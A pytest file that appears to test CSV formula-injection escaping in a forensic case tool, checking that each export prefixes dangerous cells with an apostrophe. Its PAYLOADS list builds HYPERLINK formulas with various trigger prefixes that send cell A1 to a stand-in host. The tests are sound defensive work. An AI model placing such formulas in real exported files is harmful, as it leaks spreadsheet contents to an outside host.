"""CSV formula injection: every CSV export escapes a cell that a spreadsheet would run, with one
helper (``tasman.core.csvsafe``), and no CSV writer in ``src/tasman`` can skip it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, update

from tasman.attribute import attribute_case
from tasman.core import csvsafe
from tasman.core.workspace import Workspace
from tasman.link.models import Subject
from tasman.money.document import TimelineEvent
from tasman.money.outputs import write_timeline_csv
from tasman.refer.summary import Summary, SummaryRow, to_csv
from tasman.triage import outputs as triage_outputs
from tests.attribute import factory as f

SRC = Path(__file__).resolve().parents[2] / "src" / "tasman"
PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = [f'{p}HYPERLINK("https://example.invalid/?q="&A1,"open")' for p in PREFIXES]

# Where csv.writer may appear: the helper itself, and the generators of synthetic test inputs
# (they write what seized files look like, formulas included, never an export).
ALLOWED = {Path("core/csvsafe.py"), Path("synth")}
_WRITER = re.compile(r"\bcsv\s*\.\s*(?:writer|DictWriter)\b|\bfrom\s+csv\s+import\b|\bimport\s+csv\s+as\b|\b_csv\b")


def test_every_csv_writer_in_the_source_goes_through_the_helper() -> None:
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        rel = path.relative_to(SRC)
        if rel in ALLOWED or any(parent in ALLOWED for parent in rel.parents):
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if _WRITER.search(line):
                offenders.append(f"{rel}:{n}: {line.strip()}")
    assert not offenders, "write CSV with tasman.core.csvsafe.writer:\n" + "\n".join(offenders)


def test_the_enumeration_would_see_a_new_writer() -> None:
    assert _WRITER.search("    w = csv.writer(fh)") and _WRITER.search("dw = csv.DictWriter(fh, fieldnames=x)")
    assert _WRITER.search("from csv import writer")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_a_leading_apostrophe(payload: str) -> None:
    assert csvsafe.cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Ana Reyes", "+639171234567", "+639171234567;+31612345678", "-12.50", -3, 2.5,
                                   "ana@example.ph", "a=b", "S-000001"])
def test_data_that_cannot_run_is_kept(value: object) -> None:
    assert csvsafe.cell(value) == value
    assert csvsafe.cell(None) == ""


def _cells(path: Path | str) -> list[str]:
    if isinstance(path, Path):
        with path.open(encoding="utf-8", newline="") as fh:   # a cell's CR stays a CR
            text = fh.read()
    else:
        text = path
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _assert_escaped(cells: list[str], payload: str) -> None:
    assert "'" + payload in cells, (payload, cells)
    assert payload not in cells


@pytest.fixture
def hostile_ws(tmp_path: Path) -> Workspace:
    """Case OP-1 (tests.attribute.factory), attributed, plus one identifier observation per payload."""
    w = Workspace.init(tmp_path / "ws", actor="tester")
    with w.session() as s:
        c = f.operation(s)
        attribute_case(s, w.actor, "OP-1")
        for payload in PAYLOADS:
            f.observation(s, c, "username", payload)
    return w


def test_each_prefix_through_each_export_command(hostile_ws: Workspace, tmp_path: Path, run_cli: Any) -> None:
    ws = hostile_ws
    ids = tmp_path / "ids.csv"
    r = run_cli("-w", ws.root, "export", "identifiers", "--case", "OP-1", "--out", ids)
    assert r.exit_code == 0, r.output
    for payload in PAYLOADS:
        _assert_escaped(_cells(ids), payload)
    for i, payload in enumerate(PAYLOADS):
        with ws.session() as s:    # a suspect's name as a partner or a seized order list spelled it
            s.execute(update(Subject).values(name=payload))
            assert s.scalars(select(Subject.name)).first() == payload
        for args in (("export", "subjects"), ("export", "csv")):
            out = tmp_path / f"{args[1]}-{i}.csv"
            r = run_cli("-w", ws.root, *args, "--case", "OP-1", "--out", out)
            assert r.exit_code == 0, r.output
            _assert_escaped(_cells(out), payload)
    ws.close()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_money_summary_and_triage_csvs_escape(payload: str, tmp_path: Path) -> None:
    timeline = tmp_path / "timeline.csv"
    write_timeline_csv(timeline, (TimelineEvent(ts="2024-01-01T00:00:00Z", kind="transfer", who=payload,
                                                summary=payload, ref="transfers.csv#1"),))
    _assert_escaped(_cells(timeline), payload)
    row = SummaryRow(country="PH", agency=payload, packages=1, latest_version=1, subjects=1, acknowledged=0,
                     **{k: 0 for k in SummaryRow.model_fields if k not in (
                         "country", "agency", "packages", "latest_version", "subjects", "acknowledged")})
    _assert_escaped(_cells(to_csv(Summary(case_ref="OP-1", generated_at="x", rows=[row], total=row))), payload)
    files = tmp_path / "files.csv"
    triage_outputs._atomic_csv(files, ("path", "size"), [(f"phone.zip!/{payload}", 1), (payload, None)])
    _assert_escaped(_cells(files), payload)
